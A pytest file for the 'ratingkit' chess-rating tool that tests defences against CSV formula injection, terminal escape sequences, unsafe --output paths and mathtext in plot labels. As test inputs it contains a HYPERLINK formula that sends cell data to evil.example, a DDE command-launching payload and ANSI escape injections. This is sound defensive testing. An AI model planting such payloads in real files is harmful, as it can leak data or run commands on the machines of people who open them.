"""Files sent by strangers (issue 14, point 16): exported CSV cannot run as a spreadsheet
formula, text for a terminal carries no control characters, ``--output`` writes where the
user meant (never over an input, into a device or FIFO, through a symbolic link), and names
with ``$`` are drawn as text in plots (point 15).

The characters a spreadsheet takes for the start of a formula are OWASP's list ("CSV
Injection"), as the issue quotes it: ``=``, ``+``, ``-``, ``@``, tab and carriage return.
"""

from __future__ import annotations

import csv
import io
import os
import stat
import threading
from pathlib import Path

import matplotlib
import pytest

matplotlib.use("Agg")  # tests only

import matplotlib.pyplot as plt

from ratingkit import cli
from ratingkit.core.errors import RatingkitError
from ratingkit.core.outcome import Outcome
from ratingkit.core.output import (
    check_output,
    protect_cell,
    terminal_text,
    unprotect_cell,
    write_output,
)
from ratingkit.core.players import (
    PlayerFile,
    PlayerRecord,
    parse_player_csv,
    write_player_csv,
)
from ratingkit.core.report import Report, Table
from ratingkit.formats import read_event, write_event

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
ESC_NAME = "\x1b[31mRed\x1b[0m Rider\x07"


# -- CSV cells -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text", [HYPERLINK, "+1+2", "-2+3", "@SUM(A1:A9)", "\tx", "\rx", "=1", "-", "+"]
)
def test_a_text_cell_starting_like_a_formula_gets_an_apostrophe(text):
    assert protect_cell(text) == "'" + text
    assert unprotect_cell(protect_cell(text)) == text


@pytest.mark.parametrize("value", [-9, -0.5, 12, "-9", "+12", "-0.5", "1500", "Smith", "O'Brien"])
def test_numbers_and_plain_text_are_written_as_they_are(value):
    assert protect_cell(value) == value


@pytest.mark.parametrize("text", ["'=x", "''", "'-y", "'", "'abc", "''=x"])
def test_text_that_already_starts_with_an_apostrophe_reads_back_exactly(text):
    assert unprotect_cell(protect_cell(text)) == text


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_report_csv_protects_names_and_leaves_negative_numbers_alone():
    report = Report.build(
        title="t",
        rules="r",
        rows=[
            {"id": "@a", "name": HYPERLINK, "rating_before": 1500, "change": -9, "games": 1},
            {"id": "b", "name": "-x", "rating_before": 1400, "change": 9.5, "games": 1},
        ],
        # the rows are given by hand (what the CSV writer protects); no rule set rated them
        outcome=Outcome("r", "t", ()),
    )
    rows = _cells(report.to_csv())
    header = rows[0]
    first = dict(zip(header, rows[1], strict=True))
    second = dict(zip(header, rows[2], strict=True))
    assert first["name"] == "'" + HYPERLINK
    assert first["id"] == "'@a"
    assert first["change"] == "-9"
    assert second["name"] == "'-x"
    assert second["change"] == "9.5"


def test_player_files_read_back_equal_with_formula_like_names(tmp_path):
    names = [HYPERLINK, "-Minus", "+Plus", "@At", "'=Quoted", "''", "O'Brien", "-9", "Plain"]
    records = tuple(
        PlayerRecord(id=f"{i}" if i % 2 else f"={i}", name=name, rating=1500 + i, games=i)
        for i, name in enumerate(names)
    )
    text = write_player_csv(PlayerFile(records))
    # What a spreadsheet sees: no cell starts with a formula character.
    for row in _cells(text)[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or cell.lstrip("-").isdigit(), cell
    back = parse_player_csv(text)
    assert [(r.id, r.name, r.rating, r.games) for r in back] == [
        (r.id, r.name, r.rating, r.games) for r in records
    ]


def test_a_csv_pair_written_by_ratingkit_reads_back_with_formula_like_names(tmp_path):
    folder = tmp_path / "pair"
    folder.mkdir()
    (folder / "players.csv").write_text(
        f'id,name,rating\n"=a","{HYPERLINK.replace(chr(34), chr(34) * 2)}",1500\nb,-Bee,1400\n',
        encoding="utf-8",
    )
    (folder / "games.csv").write_text('round,white,black,result\n1,"=a",b,1-0\n', encoding="utf-8")
    event = read_event(folder)
    again = tmp_path / "again"
    again.mkdir()
    from ratingkit.formats.csvpair import write_games_csv, write_players_csv

    (again / "players.csv").write_text(write_players_csv(event), encoding="utf-8")
    (again / "games.csv").write_text(write_games_csv(event), encoding="utf-8")
    assert "'=a" in (again / "players.csv").read_text(encoding="utf-8")
    back = read_event(again)
    assert [(p.id, p.name, p.rating) for p in back.players] == [
        (p.id, p.name, p.rating) for p in event.players
    ]
    assert [(g.white, g.black, g.white_score) for g in back.games] == [("=a", "b", 1)]


def test_a_score_table_written_by_ratingkit_reads_back_with_formula_like_names(tmp_path):
    source = tmp_path / "scores.csv"
    source.write_text(
        'id,name,rating,points\nA,"=A()",2400,1.5\nB,-Bee,2300,0.5\nC,C,2200,1\n', encoding="utf-8"
    )
    event = read_event(source)
    written = tmp_path / "again.csv"
    written.write_text(write_event(event, "scorecsv"), encoding="utf-8")
    assert "'=A()" in written.read_text(encoding="utf-8")
    back = read_event(written)
    assert [(p.id, p.name) for p in back.players] == [("A", "=A()"), ("B", "-Bee"), ("C", "C")]


# -- text for a terminal ---------------------------------------------------------------------


def test_terminal_text_drops_control_characters_and_keeps_newlines():
    text = "a\x1b[2Jb\nc\x07d\x9be\u202eF\x7f\n"
    assert terminal_text(text) == "a[2Jb\ncdeF\n"


def test_a_text_report_carries_no_control_character():
    report = Report.build(
        title="Cup \x1b]0;pwned\x07",
        rules="r",
        rows=[{"id": "a", "name": ESC_NAME, "rating_before": 1500, "games": 0}],
        notes=["note with \x1b[1mbold\x1b[0m"],
        sections=[Table("s\x1b", ("x",), ({"x": "\x1bcell\ttab\nline"},))],
        outcome=Outcome("r", "Cup", ()),
    )
    text = report.to_text()
    assert all(ch == "\n" or ch >= " " for ch in text), repr(text)
    assert "\x7f" not in text and not any("\x80" <= ch <= "\x9f" for ch in text)
    assert "[31mRed[0m Rider" in text
    assert "cell tab line" in text
    # the report's own lines are kept
    assert text.count("\n") >= 6


def _pair(folder: Path, name: str = "Ada") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "players.csv").write_text(
        f'id,name,rating\na,"{name}",1500\nb,Ben,1400\n', encoding="utf-8"
    )
    (folder / "games.csv").write_text("round,white,black,result\n1,a,b,1-0\n", encoding="utf-8")
    return folder


def test_cli_table_output_has_no_escape_sequences(tmp_path, capsys):
    pair = _pair(tmp_path / "pair", ESC_NAME)
    assert cli.main(["rate", str(pair), "--rules", "fide-2014"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out
    assert "[31mRed[0m Rider" in out


def test_cli_error_messages_have_no_escape_sequences(tmp_path, capsys):
    pair = _pair(tmp_path / "pair")
    (pair / "games.csv").write_text(
        "round,white,black,result\n1,a,\x1b[2Jzz,1-0\n", encoding="utf-8"
    )
    assert cli.main(["rate", str(pair), "--rules", "fide-2014"]) == 2
    err = capsys.readouterr().err
    assert err.startswith("ratingkit: error: ")
    assert "\x1b" not in err


def test_cli_csv_report_protects_a_formula_name(tmp_path, capsys):
    pair = _pair(tmp_path / "pair", HYPERLINK.replace('"', '""'))
    assert cli.main(["rate", str(pair), "--rules", "fide-2014", "--format", "csv"]) == 0
    rows = _cells(capsys.readouterr().out)
    names = [dict(zip(rows[0], r, strict=True))["name"] for r in rows[1:]]
    assert names == ["'" + HYPERLINK, "Ben"]


# -- --output --------------------------------------------------------------------------------


def _rate_to(pair: Path, output: str | Path, *extra: str) -> int:
    return cli.main(["rate", str(pair), "--rules", "fide-2014", "--output", str(output), *extra])


def test_output_into_a_missing_folder_is_a_clean_error(tmp_path, capsys):
    pair = _pair(tmp_path / "pair")
    assert _rate_to(pair, tmp_path / "nowhere" / "report.txt") == 2
    err = capsys.readouterr().err
    assert err.startswith("ratingkit: error: --output ")
    assert "does not exist" in err and "Traceback" not in err


def test_output_onto_a_folder_is_a_clean_error(tmp_path, capsys):
    pair = _pair(tmp_path / "pair")
    (tmp_path / "out").mkdir()
    assert _rate_to(pair, tmp_path / "out") == 2
    assert "is a folder" in capsys.readouterr().err


@pytest.mark.parametrize("target", ["games.csv", "players.csv"])
def test_output_onto_an_input_is_refused_and_the_input_kept(tmp_path, capsys, target):
    pair = _pair(tmp_path / "pair")
    before = (pair / target).read_bytes()
    assert _rate_to(pair, pair / target) == 2
    assert "is the input file" in capsys.readouterr().err
    assert (pair / target).read_bytes() == before


def test_output_onto_the_player_file_is_refused(tmp_path, capsys):
    pair = _pair(tmp_path / "pair")
    state = tmp_path / "state.csv"
    state.write_text("id,games\na,10\nb,10\n", encoding="utf-8")
    before = state.read_bytes()
    assert _rate_to(pair, state, "--players", str(state)) == 2
    assert "is the input file" in capsys.readouterr().err
    assert state.read_bytes() == before


def test_output_through_a_symlink_to_an_input_is_refused(tmp_path, capsys):
    pair = _pair(tmp_path / "pair")
    link = tmp_path / "link.csv"
    link.symlink_to(pair / "games.csv")
    before = (pair / "games.csv").read_bytes()
    assert _rate_to(pair, link) == 2
    assert (pair / "games.csv").read_bytes() == before


def test_output_through_a_symlink_writes_its_target_and_keeps_the_link(tmp_path):
    pair = _pair(tmp_path / "pair")
    target = tmp_path / "reports" / "latest.txt"
    target.parent.mkdir()
    target.write_text("old\n", encoding="utf-8")
    link = tmp_path / "report.txt"
    link.symlink_to(target)
    assert _rate_to(pair, link) == 0
    assert link.is_symlink()
    assert os.readlink(link) == str(target)
    written = target.read_text(encoding="utf-8")
    assert "Ada" in written and "old" not in written


def test_output_onto_dev_null_keeps_it_a_device(tmp_path):
    pair = _pair(tmp_path / "pair")
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)
    # First on a private copy of /dev/null (the same device numbers, where the tests may
    # create one): a regression replaces that copy, not the machine's /dev/null.
    private = tmp_path / "null"
    try:
        os.mknod(private, stat.S_IFCHR | 0o666, os.stat("/dev/null").st_rdev)
    except (PermissionError, OSError):
        private = None
    if private is not None:
        assert _rate_to(pair, private) == 0
        if not stat.S_ISCHR(os.stat(private).st_mode):
            pytest.fail("--output replaced a device with a regular file; /dev/null not tried")
    assert _rate_to(pair, "/dev/null") == 0
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)


def test_output_into_a_fifo_writes_into_it(tmp_path):
    pair = _pair(tmp_path / "pair")
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    received: list[bytes] = []

    def read() -> None:
        with open(fifo, "rb") as handle:
            received.append(handle.read())

    reader = threading.Thread(target=read, daemon=True)
    reader.start()
    assert _rate_to(pair, fifo) == 0
    reader.join(timeout=10)
    assert not reader.is_alive()
    assert stat.S_ISFIFO(os.stat(fifo).st_mode)
    assert b"Ada" in received[0]


def test_output_onto_an_existing_file_replaces_it_keeping_its_permissions(tmp_path):
    pair = _pair(tmp_path / "pair")
    out = tmp_path / "report.txt"
    out.write_text("old\n", encoding="utf-8")
    out.chmod(0o640)
    assert _rate_to(pair, out) == 0
    assert "Ada" in out.read_text(encoding="utf-8")
    assert stat.S_IMODE(out.stat().st_mode) == 0o640
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


def test_a_new_output_file_gets_the_usual_permissions(tmp_path):
    umask = os.umask(0o022)
    try:
        write_output(tmp_path / "new.txt", "x\n")
    finally:
        os.umask(umask)
    assert stat.S_IMODE((tmp_path / "new.txt").stat().st_mode) == 0o644


def test_check_output_names_the_input(tmp_path):
    pair = _pair(tmp_path / "pair")
    with pytest.raises(RatingkitError, match="players.csv"):
        check_output(pair / "players.csv", [pair])


# -- plots: a name with $ is text ------------------------------------------------------------

DOLLAR_NAME = r"Smith $\frac{1}{$ Jr"


def _drawn(text) -> tuple[str, bool]:
    """What matplotlib draws for a Text: the string after its mathtext preprocessing, and
    whether it is typeset as math."""
    return text._preprocess_math(text.get_text())


def test_rating_history_draws_a_name_with_dollars_as_text(tmp_path):
    from ratingkit.notebook.plots.ledger import plot_rating_history
    from ratingkit.services.ledger import Ledger

    pair = _pair(tmp_path / "pair", DOLLAR_NAME)
    (pair / "event.csv").write_text("field,value\nname,Cup\nstart,2024-01-05\n", encoding="utf-8")
    with Ledger.create(tmp_path / "l.sqlite", "fide-2014") as book:
        book.import_file(pair)
        book.rate_period("2024-01")
        ax = plot_rating_history(book, ["a", "b"])
        ax.figure.canvas.draw()  # raised a mathtext ParseException before
        legend = {_drawn(t) for t in ax.get_legend().get_texts()}
    assert (DOLLAR_NAME, False) in legend
    plt.close("all")


def test_the_8_54_plot_draws_a_name_with_dollars_as_text(tmp_path):
    from ratingkit.notebook.plots.fide2014 import plot_cap
    from ratingkit.registry import get_rule_set

    event = read_event(_pair(tmp_path / "pair", DOLLAR_NAME))
    report = get_rule_set("fide-2014").rate(event)
    ax = plot_cap(report, "a")
    ax.figure.canvas.draw()
    drawn, math = _drawn(ax.title)
    assert DOLLAR_NAME in drawn and not math
    plt.close("all")


def test_the_comparison_plot_draws_ids_and_titles_with_dollars_as_text(tmp_path):
    from ratingkit.notebook.plots.compare import plot_change_vs_surprise
    from ratingkit.services.compare import compare

    folder = _pair(tmp_path / "pair")
    (folder / "players.csv").write_text(
        "id,name,rating\n$a$,A,1500\n$b$,B,1400\n", encoding="utf-8"
    )
    (folder / "games.csv").write_text("round,white,black,result\n1,$a$,$b$,1-0\n", encoding="utf-8")
    (folder / "event.csv").write_text("field,value\nname,$x$ Cup\n", encoding="utf-8")
    comparison = compare(read_event(folder), ["fide-2014", "fesa"])
    ax = plot_change_vs_surprise(comparison)
    ax.figure.canvas.draw()
    assert _drawn(ax.title) == ("$x$ Cup: change against surprise, per rule set", False)
    assert {_drawn(t) for t in ax.texts} >= {("$a$", False)}
    plt.close("all")


def test_db_list_and_history_csv_protect_a_formula_name(tmp_path, capsys):
    pair = _pair(tmp_path / "pair", "@SUM(1+1)*cmd|' /C calc'!A0")
    (pair / "event.csv").write_text(
        "field,value\nname,=Cup()\nstart,2024-01-05\n", encoding="utf-8"
    )
    book = str(tmp_path / "l.sqlite")
    assert cli.main(["db", "init", book, "--rules", "fide-2014"]) == 0
    assert cli.main(["db", "import", book, str(pair)]) == 0
    assert cli.main(["db", "rate", book, "--period", "2024-01"]) == 0
    capsys.readouterr()
    assert cli.main(["db", "list", book, "--period", "2024-01", "--format", "csv"]) == 0
    rows = _cells(capsys.readouterr().out)
    names = {dict(zip(rows[0], r, strict=True))["name"] for r in rows[1:]}
    assert names == {"'@SUM(1+1)*cmd|' /C calc'!A0", "Ben"}
    assert cli.main(["db", "history", book, "a", "--format", "csv"]) == 0
    rows = _cells(capsys.readouterr().out)
    assert [dict(zip(rows[0], r, strict=True))["event"] for r in rows[1:]] == ["'=Cup()"]


def test_names_are_escaped_for_latex_when_the_user_draws_with_usetex():
    from ratingkit.notebook.plots._text import literal

    assert literal(DOLLAR_NAME) == r"Smith \$\frac{1}{\$ Jr"
    with matplotlib.rc_context({"text.usetex": True}):
        assert literal("A_b & 50% #1 {x}") == r"A\_b \& 50\% \#1 \{x\}"
        assert literal("$\\") == r"\$\textbackslash{}"


def test_an_existing_file_that_may_not_be_written_is_refused_and_kept(tmp_path, monkeypatch):
    # As a shell's ">" would refuse it (root may write anything: the permission is faked).
    out = tmp_path / "locked.txt"
    out.write_text("old\n", encoding="utf-8")
    monkeypatch.setattr(os, "access", lambda path, mode: False)
    with pytest.raises(RatingkitError, match="cannot write: Permission denied"):
        write_output(out, "new\n")
    assert out.read_text(encoding="utf-8") == "old\n"


def test_a_writable_file_in_a_folder_that_is_not_is_written_in_place(tmp_path, monkeypatch):
    import ratingkit.core.output as output

    out = tmp_path / "report.txt"
    out.write_text("old\n", encoding="utf-8")
    before = out.stat().st_ino

    def no_temporary(target, mode):
        raise PermissionError(13, "Permission denied", str(target.parent))

    monkeypatch.setattr(output, "_create_beside", no_temporary)
    write_output(out, "new\n")
    assert out.read_text(encoding="utf-8") == "new\n"
    assert out.stat().st_ino == before


def test_a_dangling_symlink_into_a_missing_folder_names_that_folder(tmp_path):
    link = tmp_path / "report.txt"
    link.symlink_to(tmp_path / "gone" / "report.txt")
    with pytest.raises(RatingkitError, match=f"the folder {tmp_path / 'gone'} does not exist"):
        write_output(link, "x\n")


def test_a_formula_like_column_name_is_protected_and_reads_back():
    from ratingkit.core.fileio import read_csv_table

    text = Table("t", ("id", "=note"), ({"id": "a", "=note": "-x"},)).to_csv()
    assert text.splitlines() == ["id,'=note", "a,'-x"]
    header, rows = read_csv_table(text, "t.csv", "the table")
    assert header == ["id", "=note"]
    assert rows[0].cells == {"id": "a", "=note": "-x"}


def test_a_long_text_is_cleaned_as_the_short_ones_are():
    """terminal_text's first look at a long ASCII text, a megabyte at a time: a clean text
    is itself; a control anywhere (in any chunk, at a chunk's edge), or a character beyond
    ASCII, is cleaned by the regular expression as a short text is."""
    from ratingkit.core.output import _CONTROLS, _LOOK

    clean = ("id  name      rating\n" + "7   Player 7    1500\n" * 3) * (_LOOK // 40)
    assert len(clean) > 2 * _LOOK and terminal_text(clean) is clean
    for where in (0, _LOOK - 1, _LOOK, len(clean) - 1):
        for control in ("\x1b", "\x00", "\x7f", "\t"):
            text = clean[:where] + control + clean[where:]
            assert terminal_text(text) == _CONTROLS.sub("", text) == clean
    text = clean + "\u202e"  # a bidirectional override: not ASCII
    assert terminal_text(text) == clean
